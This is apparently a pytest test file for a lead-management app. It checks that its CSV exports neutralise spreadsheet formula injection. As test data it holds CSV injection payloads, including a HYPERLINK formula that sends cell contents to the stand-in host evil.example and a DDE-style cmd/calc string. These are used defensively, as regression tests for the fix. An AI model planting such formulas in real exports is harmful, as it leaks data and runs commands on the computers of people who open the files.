"""Every CSV export goes through one writer that neutralises formulas (issue 18: a form's
``utm_campaign`` of ``=HYPERLINK(…)`` landed as-is in ``/reviews/<week>.csv`` and in the CSV of
``nurturehub report weekly``; the Sync errors CSV protected its message column only)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from flask import Flask

from hub.app.bootstrap import Hub
from hub.review.csv_export import neutralise, neutralise_text, to_csv
from hub.review.reports import previous_week
from hub.store.models import OutboxRow, WeeklyReportRow
from jobs.cli import main
from nurture.inquiry import Inquiry
from nurture.vocab import Channel
from tests.fixtures.clock import ManualClock
from tests.webapp.admin_support import post, signed_in
from tests.webapp.conftest import environ

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert cells(to_csv([[value]])) == ["'" + value]


@pytest.mark.parametrize("value", [-3, 2.5, "-12.5", "+3%", "1,234", "plain text", "", "'=already"])
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert neutralise(value) == value


def test_a_report_kept_before_the_fix_is_neutralised_when_served() -> None:
    kept = 'section,funnel_by_campaign\r\ncampaign,leads\r\n"=HYPERLINK(""http://evil.example"")",3\r\n'
    assert cells(neutralise_text(kept))[4] == '\'=HYPERLINK("http://evil.example")'


def add_campaign_lead(hub: Hub, clock: ManualClock) -> str:
    week = previous_week(clock.now.date())
    received = clock.now - timedelta(days=7)
    result = hub.intake.submit(
        Inquiry(
            channel=Channel.PAID_SEARCH, received_at=received, first_name="Ana", phone="+15125550188",
            text="book me", campaign=HYPERLINK,
        ),
        actor="test",
        now=received,
    )  # fmt: skip
    assert result.lead is not None
    return week


def test_the_weekly_review_csv_on_the_web_is_neutralised(app: Flask, hub: Hub, clock: ManualClock) -> None:
    week = add_campaign_lead(hub, clock)
    client = signed_in(app, hub, "coordinator")
    assert post(client, "/reviews", {"week": week}).status_code == 302
    exported = cells(client.get(f"/reviews/{week}.csv").text)
    assert "'" + HYPERLINK in exported
    assert HYPERLINK not in exported


def test_a_review_kept_unsafely_is_served_safely(app: Flask, hub: Hub, clock: ManualClock) -> None:
    week = add_campaign_lead(hub, clock)
    client = signed_in(app, hub, "coordinator")
    post(client, "/reviews", {"week": week})
    with hub.store.tx() as s:
        row = s.get(WeeklyReportRow, week)
        assert row is not None
        row.csv = row.csv.replace("'" + HYPERLINK.replace('"', '""'), HYPERLINK.replace('"', '""'))
    exported = cells(client.get(f"/reviews/{week}.csv").text)
    assert "'" + HYPERLINK in exported


def test_the_weekly_review_csv_of_the_cli_is_neutralised(
    hub: Hub, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    week = add_campaign_lead(hub, clock)
    monkeypatch.chdir(tmp_path)
    for name, value in environ().items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("NURTUREHUB_DATA_KEY", hub.environ["NURTUREHUB_DATA_KEY"])
    url = hub.store.url
    assert main(["--database-url", url, "report", "weekly", "--week", week, "--format", "csv"]) == 0
    exported = cells(capsys.readouterr().out)
    assert "'" + HYPERLINK in exported
    assert HYPERLINK not in exported


def test_every_column_of_the_sync_errors_export_is_neutralised(app: Flask, hub: Hub, clock: ManualClock) -> None:
    result = hub.intake.submit(
        Inquiry(channel=Channel.PAID_SEARCH, received_at=clock.now, first_name="Ana", phone="+15125550188"),
        actor="test",
    )
    assert result.lead is not None
    with hub.store.tx() as s:
        s.add(
            OutboxRow(
                destination="salesforce", kind="upsert_lead", key="=key", lead_id=result.lead.id, created_at=clock.now,
                status="failed", attempts=1, next_attempt_at=clock.now, last_error="@SUM(1+1)",
            )
        )  # fmt: skip
    exported = cells(signed_in(app, hub, "coordinator").get("/sync-errors/export.csv").text)
    assert not [c for c in exported if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].isdigit())]
